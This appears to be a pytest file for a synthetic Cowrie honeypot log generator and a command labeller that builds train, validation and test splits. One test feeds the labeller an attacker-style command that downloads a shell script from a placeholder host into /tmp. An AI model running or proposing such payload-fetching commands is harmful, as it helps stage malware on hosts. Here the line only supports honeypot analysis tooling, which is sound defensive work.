import json
from datetime import timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cowrieqa import lexer, loggen
from cowrieqa.schema import extract_command, serialize_event


def test_session_shape_and_determinism():
    cfg = loggen.GeneratorConfig(seed=1)
    a = loggen.generate_session(cfg, 0)
    b = loggen.generate_session(cfg, 0)
    assert [serialize_event(e) for e in a] == [serialize_event(e) for e in b]
    assert a[0].eventid == "cowrie.session.connect"
    assert a[-1].eventid == "cowrie.session.closed"


@settings(max_examples=100, deadline=None)
@given(st.integers(0, 2**32), st.integers(0, 999))
def test_session_invariants(seed, index):
    events = loggen.generate_session(loggen.GeneratorConfig(seed=seed), index)
    assert events[0].eventid == "cowrie.session.connect"
    assert events[-1].eventid == "cowrie.session.closed"
    stamps = [e.timestamp for e in events]
    assert stamps == sorted(stamps) and len(set(stamps)) == len(stamps)
    assert len({e.session for e in events}) == 1
    for ev in events:
        if ev.eventid == "cowrie.command.input":
            assert lexer.extract_utilities(extract_command(ev))


def test_corpus_deterministic(tmp_path):
    cfg = loggen.GeneratorConfig(seed=7, n_sessions=10)
    r1 = loggen.generate_corpus(cfg, tmp_path / "a")
    r2 = loggen.generate_corpus(cfg, tmp_path / "b")
    assert [p.read_bytes() for p in r1.files] == [p.read_bytes() for p in r2.files]
    assert r1.labels == r2.labels
    assert len(r1.files) == cfg.days


def test_corpus_events_sorted_and_filed_by_day(tmp_path):
    res = loggen.generate_corpus(loggen.GeneratorConfig(seed=2, n_sessions=40), tmp_path)
    last = ""
    total = 0
    for path in res.files:
        day = path.name.rsplit(".", 1)[-1]
        for line in path.read_text().splitlines():
            ts = json.loads(line)["timestamp"]
            assert ts.startswith(day) and ts >= last
            last = ts
            total += 1
    assert total == res.n_events


def test_zero_sessions(tmp_path):
    res = loggen.generate_corpus(loggen.GeneratorConfig(seed=1, n_sessions=0), tmp_path)
    assert res.labels == [] and res.n_events == 0
    assert all(p.read_bytes() == b"" for p in res.files)


def test_label_example():
    assert lexer.label("cd /tmp && wget http://h/p.sh") == "cd wget"


def test_labels_match_oracle(small_labels):
    assert small_labels
    for item in small_labels:
        assert item.gold_answer == lexer.label(item.context)
        assert item.gold_answer


def _labels(*contexts):
    return [loggen.LabeledCommand(c, lexer.label(c)) for c in contexts]


def test_split_examples():
    split = loggen.make_split(_labels("ls", "id", "w"), (1, 1, 1), seed=0)
    assert split.sizes == (1, 1, 1)
    assert len({x.context for x in split.train + split.validation + split.test}) == 3
    with pytest.raises(loggen.InsufficientData):
        loggen.make_split(_labels("ls", "id", "w"), (5, 0, 0))


def test_split_dedupes_and_is_seeded():
    items = _labels("ls", "ls", "id", "w", "uname -a", "ps")
    a = loggen.make_split(items, (3, 1, 1), seed=4)
    b = loggen.make_split(items, (3, 1, 1), seed=4)
    assert a == b
    contexts = [x.context for x in a.train + a.validation + a.test]
    assert len(contexts) == len(set(contexts)) == 5


def test_proportional_sizes():
    assert loggen.proportional_sizes(50_000) == loggen.REFERENCE_SPLIT_SIZES
    sizes = loggen.proportional_sizes(3644)
    assert sum(sizes) == 3644 and sizes[0] > sizes[1] > sizes[2] > 0


def test_label_round_trip(tmp_path, small_labels):
    path = tmp_path / "l.jsonl"
    loggen.write_labels(path, small_labels[:50])
    back = loggen.read_labels(path)
    assert [(x.context, x.gold_answer) for x in back] == [(x.context, x.gold_answer) for x in small_labels[:50]]


def test_config_validation():
    with pytest.raises(ValueError):
        loggen.GeneratorConfig(seed=-1)
    with pytest.raises(ValueError):
        loggen.GeneratorConfig(seed=1, gap_seconds=(0.0, 1.0))
    with pytest.raises(ValueError):
        loggen.GeneratorConfig(seed=1, utility_vocab=loggen.default_vocab()[:10])


def test_timestamps_utc(small_labels):
    assert all(x.timestamp.tzinfo is not None and x.timestamp.utcoffset().total_seconds() == 0
               for x in small_labels[:100])
    assert small_labels[0].timestamp.tzinfo == timezone.utc
